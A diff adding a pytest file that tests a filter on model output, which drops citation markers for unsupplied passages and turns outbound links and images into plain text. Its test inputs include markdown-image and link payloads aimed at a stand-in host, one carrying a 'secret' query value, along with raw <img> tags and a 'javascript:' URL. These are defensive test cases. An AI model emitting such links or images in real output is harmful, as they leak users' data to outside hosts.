@@ -1,0 +1,73 @@
+"""What of a model's text is shown."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from readahead_agents.fixed_evidence import passage
+from readahead_agents.shown_text import ShownText
+
+PASSAGES = [passage("a.pdf", 1, "As told in [12], pumps turn."), passage("b.pdf", 2, "Mixers mix.")]
+PIECES = ["[", "]", "(", ")", "S1", "S2", "S9", "1", "12", ",", " ", "\t", "!", "<", "a", ":", "/", "//e.x", "#", "\n"]
+
+
+def shown(pieces: list[str]) -> str:
+    text = ShownText(PASSAGES)
+    return "".join([*map(text.feed, pieces), text.finish()])
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("It turns [S1].", "It turns [S1]."),
+        ("It turns [S1, S2].", "It turns [S1, S2]."),
+        ("It turns [S3].", "It turns."),
+        ("It turns [S1, S3].", "It turns."),
+        ("It turns [99].", "It turns."),
+        ("It turns [S0].", "It turns."),
+        ("As told in [12].", "As told in [12]."),
+        ("A list [see page] stays.", "A list [see page] stays."),
+        ("An open [ stays", "An open [ stays"),
+        ("[S7", "[S7"),
+    ],
+)
+def test_only_markers_of_given_passages_are_shown(text: str, expected: str) -> None:
+    assert shown([text]) == expected
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](http://evil.example/?q=secret)",
+        "[x](https://evil.example)",
+        "[x](//evil.example)",
+        "[x](/\\evil.example)",
+        "[x](javascript:alert(1))",
+        "![x][r]\n\n[r]: http://evil.example",
+        "<img src='http://evil.example'>",
+        "<http://evil.example>",
+        "[S9](http://evil.example)",
+    ],
+)
+def test_links_and_images_that_leave_the_service_are_made_plain_text(text: str) -> None:
+    result = shown([text])
+    assert "](" not in result
+    assert "]:" not in result
+    assert "<h" not in result
+    assert "<i" not in result
+
+
+def test_links_into_the_service_stay_links() -> None:
+    assert shown(["[page](/documents/1#2) and [top](#top)"]) == "[page](/documents/1#2) and [top](#top)"
+
+
+@given(st.lists(st.sampled_from(PIECES), max_size=24))
+def test_a_stream_shows_the_same_as_the_whole_text_at_once(pieces: list[str]) -> None:
+    assert shown(pieces) == shown(["".join(pieces)])
+
+
+def test_text_without_brackets_is_never_held_back() -> None:
+    text = ShownText(PASSAGES)
+    assert [text.feed(piece) for piece in ("The", " pump", " turns.")] == ["The", " pump", " turns."]
